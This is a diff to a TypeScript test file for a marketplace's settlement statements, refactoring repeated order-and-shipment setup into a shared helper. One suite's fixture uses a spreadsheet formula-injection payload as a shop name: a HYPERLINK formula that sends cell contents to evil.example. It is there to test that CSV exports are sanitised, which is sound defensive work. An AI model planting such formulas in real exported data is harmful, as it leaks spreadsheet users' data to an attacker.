@@ -7,12 +7,34 @@ import { createProduct, placeOrder, storeSlugOf } from './support/marketplace';
 import { resolveNow } from './support/resolution';
 import { startTestApp, TestApp } from './support/test-app';
 
+// From yesterday to the day after tomorrow: what was shipped in the test is in it.
+const period = `from=${new Date(Date.now() - 86_400_000).toISOString().slice(0, 10)}&to=${new Date(Date.now() + 2 * 86_400_000).toISOString().slice(0, 10)}`;
+const session = (token: string) => ({ Cookie: `${SESSION_COOKIE}=${token}` });
+
+/** In `t`: `shopName`, a dealer near Portland, won one order (1,500.00; fulfilment price 1,200.00) and shipped it. */
+async function oneShippedOrder(t: TestApp, shopName: string) {
+  const ops = await createOps(t);
+  const maker = await createManufacturer(t, ops);
+  const shop = await createRetailer(t, ops, shopName);
+  await addLocation(t, shop, northOf(PORTLAND, 3)); // Portland: Pacific Time
+  await makeDealer(t, maker, shop);
+  const product = await createProduct(t, maker, { priceMinor: 150_000, fulfilmentPriceMinor: 120_000 });
+  const order = await placeOrder(t, await storeSlugOf(t, maker), { lines: [{ sku: product.sku }] });
+  await t.http.put(`/api/v1/retailer/board/${order.id}/bid`).set(bearer(shop.admin.token)).send({}).expect(200);
+  await resolveNow(t, ops.token, maker.id);
+  await t.http
+    .post(`/api/v1/retailer/orders/${order.id}/shipments`)
+    .set(bearer(shop.admin.token))
+    .send({ carrier: 'USPS', trackingNumber: '9400 1000 0000 0000 0000 00' })
+    .expect(200);
+  return { maker, shop, order };
+}
+
 describe('settlement statements', () => {
   let t: TestApp;
   let ops: Account;
   let maker: Tenant;
   let shop: Tenant;
-  const period = `from=${new Date(Date.now() - 86_400_000).toISOString().slice(0, 10)}&to=${new Date(Date.now() + 2 * 86_400_000).toISOString().slice(0, 10)}`;
 
   // Worked example: the customer pays 1,500.00; the fulfilment price is 1,200.00; the fee is 9.5% + 1.29 = 115.29.
   beforeAll(async () => {
@@ -86,25 +108,10 @@ describe('statement CSV downloads and spreadsheet formulas', () => {
   let maker: Tenant;
   let shop: Tenant;
   const formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")';
-  const period = `from=${new Date(Date.now() - 86_400_000).toISOString().slice(0, 10)}&to=${new Date(Date.now() + 2 * 86_400_000).toISOString().slice(0, 10)}`;
-  const session = (token: string) => ({ Cookie: `${SESSION_COOKIE}=${token}` });
 
   beforeAll(async () => {
     t = await startTestApp();
-    const ops = await createOps(t);
-    maker = await createManufacturer(t, ops);
-    shop = await createRetailer(t, ops, formula);
-    await addLocation(t, shop, northOf(PORTLAND, 3));
-    await makeDealer(t, maker, shop);
-    const product = await createProduct(t, maker, { priceMinor: 150_000, fulfilmentPriceMinor: 120_000 });
-    const order = await placeOrder(t, await storeSlugOf(t, maker), { lines: [{ sku: product.sku }] });
-    await t.http.put(`/api/v1/retailer/board/${order.id}/bid`).set(bearer(shop.admin.token)).send({}).expect(200);
-    await resolveNow(t, ops.token, maker.id);
-    await t.http
-      .post(`/api/v1/retailer/orders/${order.id}/shipments`)
-      .set(bearer(shop.admin.token))
-      .send({ carrier: 'USPS', trackingNumber: '9400 1000 0000 0000 0000 00' })
-      .expect(200);
+    ({ maker, shop } = await oneShippedOrder(t, formula));
   });
   afterAll(() => t.close());
 
@@ -130,29 +137,16 @@ describe('statement days in the workspace', () => {
   let t: TestApp;
   let shop: Tenant;
   let orderNumber: string;
-  const session = (token: string) => ({ Cookie: `${SESSION_COOKIE}=${token}` });
   const NOVEMBER = 'from=2026-11-01&to=2026-12-01';
   const DECEMBER = 'from=2026-12-01&to=2027-01-01';
 
   beforeAll(async () => {
     t = await startTestApp();
-    const ops = await createOps(t);
-    const maker = await createManufacturer(t, ops);
-    shop = await createRetailer(t, ops, 'Late Night Cycles');
-    await addLocation(t, shop, northOf(PORTLAND, 3)); // Portland: Pacific Time
-    await makeDealer(t, maker, shop);
-    const product = await createProduct(t, maker, { priceMinor: 150_000, fulfilmentPriceMinor: 120_000 });
-    const order = await placeOrder(t, await storeSlugOf(t, maker), { lines: [{ sku: product.sku }] });
-    await t.http.put(`/api/v1/retailer/board/${order.id}/bid`).set(bearer(shop.admin.token)).send({}).expect(200);
-    await resolveNow(t, ops.token, maker.id);
-    await t.http
-      .post(`/api/v1/retailer/orders/${order.id}/shipments`)
-      .set(bearer(shop.admin.token))
-      .send({ carrier: 'USPS', trackingNumber: '9400 1000 0000 0000 0000 00' })
-      .expect(200);
+    const shipped = await oneShippedOrder(t, 'Late Night Cycles');
+    shop = shipped.shop;
     // Shipped at 23:30 on November 30 in Portland, which is already December 1 in UTC.
-    await t.app.get(DataSource).query(`UPDATE shipments SET shipped_at = '2026-11-30T23:30:00-08:00' WHERE order_id = $1`, [order.id]);
-    orderNumber = String(order.number);
+    await t.app.get(DataSource).query(`UPDATE shipments SET shipped_at = '2026-11-30T23:30:00-08:00' WHERE order_id = $1`, [shipped.order.id]);
+    orderNumber = String(shipped.order.number);
   });
   afterAll(() => t.close());
 
